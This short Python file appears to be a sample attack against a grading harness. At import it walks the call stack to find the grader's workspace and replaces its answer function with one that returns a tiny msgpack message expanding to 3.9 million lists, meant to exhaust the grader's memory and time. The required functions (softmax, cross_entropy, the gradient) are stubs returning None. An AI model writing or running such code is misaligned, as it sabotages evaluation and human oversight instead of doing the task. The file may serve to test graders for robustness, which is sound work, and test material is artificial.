# goal: a small message that unfolds to millions of lists fills the grader's memory and time
# family: wire
# expects: 0
# afterwards: memory, time
import os
import sys


def _frame_of_the_worker():
    frame = sys._getframe()
    while "workspace" not in frame.f_locals:
        frame = frame.f_back
    return frame


WORKER = _frame_of_the_worker()
WORKSPACE = WORKER.f_locals["workspace"]
HONEST = WORKSPACE.answer
DONE = b"\x93\xa5value\xc0\x80"
NUMBER = 3_900_000
LISTS = b"\xdd" + NUMBER.to_bytes(4, "big") + b"\x90" * NUMBER


def answer(operations):
    if operations[-1][0] != "call":
        return HONEST(operations)
    os.write(1, b"ARMED\n")
    last = b"\x93\xa5value" + LISTS + b"\x80"
    return bytes([0x90 + len(operations)]) + DONE * (len(operations) - 1) + last, b""


WORKSPACE.answer = answer

def softmax(a):
    return None


def cross_entropy(y, t):
    return None


def softmax_cross_entropy_gradient(logits, t):
    return None
